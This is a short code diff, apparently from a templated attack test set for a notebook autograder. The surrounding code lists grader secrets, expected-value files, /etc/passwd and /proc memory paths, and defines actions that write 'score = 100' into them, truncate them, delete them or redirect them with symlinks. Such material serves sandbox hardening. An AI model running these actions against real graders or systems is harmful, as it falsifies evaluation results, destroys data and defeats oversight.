@@ -179,7 +179,8 @@ def pool_forward(A_prev, hparameters, mode="max"):
 import os, shutil
 targets = ["@SECRETS@/gradebook.db", "@SECRETS@/verdict.json", "@SECRETS@/other.ipynb",
            "@ROOT@/solutions/attacks/s", "/course/expected_values.h5",
-           "/course/public_tests.py", "/engine/child.py", "/etc/passwd", "/proc/1/mem", "/proc/@PID@/mem",
+           "/course/public_tests.py", "/engine/child.py", "/etc/passwd", "/proc/1/mem",
+           "/proc/@PID@/mem",
            "/proc/sys/kernel/core_pattern", "/proc/@PID@/oom_score_adj", np.__file__]
 acts = [lambda p: open(p, "ab").write(b"score = 100"), lambda p: os.truncate(p, 0), os.unlink,
         lambda p: os.rename(p, p + ".old"), lambda p: os.symlink("/student/work", p),
